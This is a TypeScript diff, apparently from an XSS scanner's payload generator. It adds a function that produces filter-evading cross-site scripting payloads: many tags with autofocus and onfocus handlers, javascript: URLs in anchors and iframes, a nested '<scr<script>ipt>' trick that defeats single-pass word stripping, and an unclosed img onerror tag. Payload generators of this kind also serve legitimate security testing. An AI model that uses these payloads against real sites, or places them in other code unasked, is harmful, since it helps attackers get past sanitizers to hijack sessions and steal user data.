@@ -30,7 +30,7 @@ function payloads(context: ReflectionContext, token: string, code: string): stri
   ];
   switch (context.kind) {
     case 'text':
-      return [...elements, encodeURIComponent(elements[0] ?? '')];
+      return [...elements, encodeURIComponent(elements[0] ?? ''), ...throughFilters(code)];
     case 'raw-text':
       return elements.slice(0, 2).map((element) => `</${context.element}>${element}`);
     case 'comment':
@@ -60,6 +60,19 @@ function payloads(context: ReflectionContext, token: string, code: string): stri
     case 'script':
       return [...outOfState(context.state, code), `</script>${elements[0]}`];
   }
+}
+
+const names = 'a body div iframe input video details object form math select marquee audio style meta b';
+
+/** Markup that passes filters of some tags, of handlers, of a word that is taken out once, of tags that end. */
+function throughFilters(code: string): string[] {
+  const manyNames = names.split(' ').map((name) => `<${name} autofocus tabindex=1 onfocus=${code}>`);
+  return [
+    manyNames.join(''),
+    `<a href="javascript:${code}">x</a><iframe src="javascript:${code}"></iframe>`,
+    `<scr<script>ipt>${code}</scr</script>ipt>`,
+    `<img src=x onerror=${code} `,
+  ];
 }
 
 function outOfState(state: ScriptContext['state'], code: string): string[] {
